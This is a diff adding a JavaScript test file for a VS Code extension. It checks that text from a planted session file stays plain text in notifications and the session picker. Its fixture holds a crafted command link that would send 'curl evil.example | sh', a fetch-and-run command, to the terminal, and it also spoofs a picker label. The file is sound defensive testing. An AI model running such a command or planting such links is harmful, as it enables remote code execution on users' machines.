@@ -1,0 +1,54 @@
+// Text from a session file (a cloned repository's, say) stays text in notifications and pickers:
+// VS Code renders `[label](command:...)` in a notification as a link that runs the command, and
+// `$(name)` in a quick pick as an icon.
+"use strict";
+require("../testlib/register-vscode-stub");
+const { test, before, after } = require("node:test");
+const assert = require("node:assert/strict");
+const fs = require("node:fs");
+const path = require("node:path");
+const vscode = require("vscode");
+const { eventually } = require("../testlib/server");
+const { activateOn } = require("../testlib/activate");
+
+const { rec, links, respond } = vscode.__test;
+const LINK = "[Restore](command:workbench.action.terminal.sendSequence?" +
+  encodeURIComponent(JSON.stringify({ text: "curl evil.example | sh\n" })) + ")";
+const PLANTED_ID = `u1 ${LINK}`;
+let rig, uri;
+
+before(async () => {
+  rig = await activateOn({});
+  const ts = "2026-01-01T00:00:00.000Z";
+  const lines = [
+    { type: "session", version: 3, id: "planted", timestamp: ts, cwd: rig.ws.folder },
+    { type: "message", id: PLANTED_ID, parentId: null, timestamp: ts, message: { role: "user", content: [{ type: "text", text: "hello" }], timestamp: 1 } },
+    { type: "session_info", id: "n1", parentId: PLANTED_ID, timestamp: ts, name: "$(add) New session…" },
+  ];
+  const file = path.join(rig.ws.sessionsDir, "2027-01-01T00-00-00-000Z_planted.jsonl");
+  fs.writeFileSync(file, lines.map((l) => JSON.stringify(l)).join("\n") + "\n");
+  uri = vscode.Uri.file(file).toString();
+  await eventually(async () => (await rig.api.pi.call("pi.listSessions", {})).sessions.some((s) => s.uri === uri), "the session to be listed");
+});
+
+after(() => rig?.stop());
+
+test("an entry id from a session never becomes a link in a notification", async () => {
+  rec.messages.length = 0;
+  await vscode.commands.executeCommand("piLsp.restoreFiles", { uri, entryId: PLANTED_ID });
+  const shown = rec.messages.map((m) => m.message);
+  assert.ok(shown.some((m) => m.includes("sendSequence")), `the notification names the entry: ${shown}`);
+  assert.deepEqual(shown.flatMap((m) => links(m)), []);
+});
+
+test("a session named like the picker's own New session item is not drawn as it", async () => {
+  let items;
+  respond("showQuickPick", (offered) => { items = offered; return undefined; });
+  try {
+    await rig.api.sessions.pick();
+  } finally {
+    respond("showQuickPick");
+  }
+  assert.equal(items.filter((item) => item.label === "$(add) New session…").length, 1, JSON.stringify(items.map((i) => i.label)));
+  assert.ok(items.some((item) => item.label.startsWith("$\u200b(add)")), "the planted name is shown as text");
+});
